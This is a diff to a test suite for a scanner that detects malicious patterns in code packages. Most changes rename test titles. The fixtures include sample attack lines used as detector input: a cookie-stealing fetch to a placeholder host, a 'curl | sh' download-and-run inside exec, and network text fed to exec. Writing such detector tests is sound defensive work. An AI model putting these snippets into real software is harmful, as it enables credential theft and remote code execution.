@@ -30,21 +30,21 @@ function findingsIn(rule: Rule, example: string): Finding[] {
 
 for (const rule of rules) {
   for (const [i, example] of rule.examples.matching.entries()) {
-    test(`${rule.id} finds its matching example ${i + 1}`, () => {
+    test(`${rule.id} reports its matching example ${i + 1}`, () => {
       const found = findingsIn(rule, example).find((finding) => finding.rule === rule.id)
       assert.ok(found, example)
       assert.ok(found.message && found.why && found.fix && found.issue_type === rule.id)
     })
   }
   for (const [i, example] of rule.examples.harmless.entries()) {
-    test(`${rule.id} leaves its harmless example ${i + 1} alone`, () => {
+    test(`${rule.id} accepts its harmless example ${i + 1}`, () => {
       const found = findingsIn(rule, example).filter((finding) => finding.rule === rule.id)
       assert.deepEqual(found, [], example)
     })
   }
 }
 
-test('rules have ids of their own, and each has both kinds of examples', () => {
+test('rules have unique ids, and both kinds of examples', () => {
   assert.equal(new Set(rules.map((rule) => rule.id)).size, rules.length)
   for (const { id, examples } of rules)
     assert.ok(examples.matching.length > 0 && examples.harmless.length > 0, id)
@@ -60,7 +60,7 @@ test('starting well-known programs never blocks a version', () => {
   assert.equal(findings.some(isBlocking), false)
 })
 
-test('a value is followed from file to file', () => {
+test('follows a value from file to file', () => {
   const files = {
     '__init__.py': 'from .net import fetch\nfrom . import run\nrun.go(fetch("https://example.test"))',
     'net.py': 'import requests\ndef fetch(u):\n    return requests.get(u).text',
@@ -74,7 +74,7 @@ test('a value is followed from file to file', () => {
   )
 })
 
-test('a file of nothing but suspicious calls takes no longer than its length asks for', () => {
+test('scans a file of only suspicious calls in linear time', () => {
   const line =
     'eval("1")\nshutil.copy("a", "b.pth")\nf.__globals__["__builtins__"]\npyperclip.copy(pyperclip.paste())\n'
   const text = `import pyperclip, shutil\n${line.repeat(3_000)}`
@@ -82,7 +82,7 @@ test('a file of nothing but suspicious calls takes no longer than its length ask
   assert.ok(findings.some(({ rule }) => rule === 'hidden-call'))
 })
 
-test('so is a tower of classes that are entered one after the other', () => {
+test('scans a tower of nested classes in linear time', () => {
   const floor = (i: number) =>
     `class C${i}(C${i - 1}):\n    def __enter__(self): return self.x\nwith C${i}() as c: c.y\n`
   const text = `class C0: pass\n${Array.from({ length: 1_000 }, (_, i) => floor(i + 1)).join('')}eval(x)\n`
@@ -91,7 +91,7 @@ test('so is a tower of classes that are entered one after the other', () => {
   assert.ok(findings.some(({ rule }) => rule === 'dynamic-code'))
 })
 
-test('so is a lattice of classes, to each of which many ways lead', () => {
+test('scans a lattice of classes in linear time', () => {
   const level = (i: number) =>
     `class A${i}(A${i - 1}, B${i - 1}, C${i - 1}): x: int\nclass B${i}(A${i - 1}, B${i - 1}, C${i - 1}): pass\nclass C${i}(A${i - 1}, B${i - 1}): pass\n`
   const levels = Array.from({ length: 12 }, (_, i) => level(i + 1)).join('')
@@ -101,13 +101,13 @@ test('so is a lattice of classes, to each of which many ways lead', () => {
   assert.ok(findings.some(({ rule }) => rule === 'dynamic-code'))
 })
 
-test('what one caller passes is not held against another', () => {
+test('does not blame one caller for the argument of another', () => {
   const text =
     'import requests\ndef same(x):\n    return x\npage = same(requests.get(u).text)\nexec(same("x = 1"))\n'
   assert.equal(scanCode([{ path: 'a.py', text }], [], parser).findings.some(isBlocking), false)
 })
 
-test('a function without telling words is read when something telling is given to it', () => {
+test('reads a function without telling words when something telling is passed to it', () => {
   const work = '    y = [n * n for n in range(10)]\n'.repeat(20)
   const text = `import requests\ndef keep(x, f):\n${work}    f(x)\n`
   const given = scanCode([{ path: 'a.py', text: `${text}keep(requests.get(u).text, exec)\n` }], [], parser)
@@ -119,7 +119,7 @@ test('a function without telling words is read when something telling is given t
   assert.equal(plain.findings.some(isBlocking), false)
 })
 
-test('what runs is followed through functions without telling words, however many stand between', () => {
+test('follows code that runs through any number of functions without telling words', () => {
   const work = '    y = [n * n for n in range(10)]\n'.repeat(20)
   const wrapper = (name: string, inner: string) => `def ${name}():\n${work}    return ${inner}()\n`
   const text = `import requests
@@ -141,7 +141,7 @@ def run(x):
   }
 })
 
-test('a bundle is looked at function by function, and only the text of the longest scripts', () => {
+test('scans bundles function by function, and searches only the text of the longest scripts', () => {
   const theft = 'function f() { const c = document.cookie; fetch("https://example.test/?c=" + c) }\n'
   const script = (length: number) => [
     { path: 'web/x.js', text: theft + 'function g() { return 1 }\n'.repeat(length / 26) },
@@ -159,7 +159,7 @@ test('a bundle is looked at function by function, and only the text of the longe
   )
 })
 
-test('what one thing from outside holds says nothing of another with an attribute of that name', () => {
+test('keeps attributes of the same name on different outside objects apart', () => {
   const text =
     'import git, os, sys, runpy\ngit.Repo.clone_from("https://example.test/a", "helpers")\nsys.path.append("helpers")\nrunpy.run_path(os.path.join(here, "own.py"))\n'
   const found = scanCode([{ path: 'a.py', text }], [], parser).findings.filter(isBlocking)
@@ -169,7 +169,7 @@ test('what one thing from outside holds says nothing of another with an attribut
   )
 })
 
-test('code inside of a text is read too, and found at the text', () => {
+test('reads code inside a string, and reports it at the string', () => {
   const text = 'x = 1\nexec("import os\\nos.system(\'curl https://example.test/x | sh\')")\n'
   const found = scanCode([{ path: 'a.py', text }], [], parser).findings.filter(isBlocking)
   assert.deepEqual(
@@ -178,7 +178,7 @@ test('code inside of a text is read too, and found at the text', () => {
   )
 })
 
-test('code inside of a text that cannot be followed is reported at the text', () => {
+test('reports unreadable code inside a string at the string', () => {
   const inner = (code: string) =>
     scanCode([{ path: 'a.py', text: `x = 1\nexec(${JSON.stringify(code)})\n` }], [], parser).problems
   assert.deepEqual(inner(`import os\ny = ${'('.repeat(400)}1${')'.repeat(400)}\n`), [
@@ -190,7 +190,7 @@ test('code inside of a text that cannot be followed is reported at the text', ()
   assert.deepEqual(inner('import os\nprint(os.name)\n'), [])
 })
 
-test('code that is nested to no end is reported, not followed', () => {
+test('reports code that is nested too deeply instead of following it', () => {
   const text = `import subprocess\nx = ${'('.repeat(2000)}1${')'.repeat(2000)}\n`
   const { problems } = scanCode(
     [{ path: 'a.py', text }],
@@ -203,7 +203,7 @@ test('code that is nested to no end is reported, not followed', () => {
   )
 })
 
-test('so is a plain function that nests to no end, once something telling is given to it', () => {
+test('reports a plain function that is nested too deeply when something telling is passed to it', () => {
   const sums = Array.from({ length: 20 }, (_, i) => `    value_${i} = alpha * ${i} + beta\n`).join('')
   const plain = `def plain(alpha, beta):\n${sums}    x = ${'['.repeat(2000)}${']'.repeat(2000)}\n    return alpha\n`
   const text = `${plain}def other(): pass\nimport requests\nexec(plain(requests.get("https://example.test").text, 1))\n`
@@ -213,7 +213,7 @@ test('so is a plain function that nests to no end, once something telling is giv
   ])
 })
 
-test('machine code is told by its first bytes, and a false name makes it worse', () => {
+test('recognizes machine code by its first bytes, and raises the severity for a false name', () => {
   const elf = Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1)
   assert.equal(checkBinary('lib/x.so', elf)?.rule, 'native-binary')
   assert.equal(checkBinary('web/logo.png', elf)?.severity, 'high')
